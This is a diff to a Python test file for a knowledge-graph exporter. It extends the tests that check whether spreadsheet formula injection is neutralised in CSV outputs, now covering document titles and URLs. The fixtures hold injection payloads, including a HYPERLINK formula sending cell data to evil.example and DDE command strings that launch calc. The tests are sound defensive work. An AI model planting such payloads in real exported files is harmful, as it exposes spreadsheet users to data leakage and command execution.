@@ -12,7 +12,7 @@ import kgraph
 from kgraph.outputs import write_outputs
 from kgraph.tables import FORMULA_START, csv_cell, graph_tables, plain_cell, read_table
 
-TABLES = ("triples", "entities", "meetings")
+TABLES = ("triples", "entities", "meetings", "documents")
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+c4", "-c5", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "'=quoted already", "''@twice", "=", "-", "'", "plain text", "O'Brien", ""]
 
@@ -49,6 +49,8 @@ def hostile_graph() -> nx.MultiDiGraph:
                    sent_index=n, sentence=text + " said =1+1")
         g.add_edge(f"person:{n}", "meeting:m", relation="participant", doc_id=text, sent_index=n,
                    sentence="\t" + text)
+    g.graph["document_info"] = {text: {"title": text, "date": text, "url": text, "source": text, "statements": n,
+                                       "meetings": 1} for n, text in enumerate(HOSTILE)}
     return g
 
 
@@ -84,14 +86,15 @@ def test_real_pipeline_hostile_article(tmp_path):
 
     texts = ["-- Putin met Angela Merkel in Berlin on Monday.", "@Reuters: Vladimir Putin met Angela Merkel.",
              "+ Vladimir Putin accused Ukraine of lying.", "=Vladimir Putin accused Ukraine of lying."]
-    docs = [{"id": f'=HYPERLINK("http://evil.example","{n}")', "text": text} for n, text in enumerate(texts)]
+    docs = [{"id": f'=HYPERLINK("http://evil.example","{n}")', "text": text, "title": f"@SUM({n})",
+             "url": f"=cmd|' /C calc'!A{n}"} for n, text in enumerate(texts)]
     (tmp_path / "in.jsonl").write_text("\n".join(json.dumps(d) for d in docs) + "\n", encoding="utf-8")
     graph = build([str(tmp_path / "in.jsonl")], BuildConfig(default_date="2019-01-01", cache=False)).graph
     write_outputs(graph, tmp_path / "out")
     written = list(cells(tmp_path / "out"))
     assert formulas(written) == []
-    for text in texts + [docs[0]["id"]]:
-        assert "'" + text in written  # the sentence, and the doc id, shown as text
+    for text in texts + [docs[0]["id"], docs[0]["title"], docs[0]["url"]]:
+        assert "'" + text in written  # the sentence, the doc id and the document's title and url, shown as text
     kg = kgraph.load(tmp_path / "out")
     statements = kg.statements()
     assert set(texts[1:]) <= set(statements["sentence"]) and docs[3]["id"] in set(statements["doc_id"])
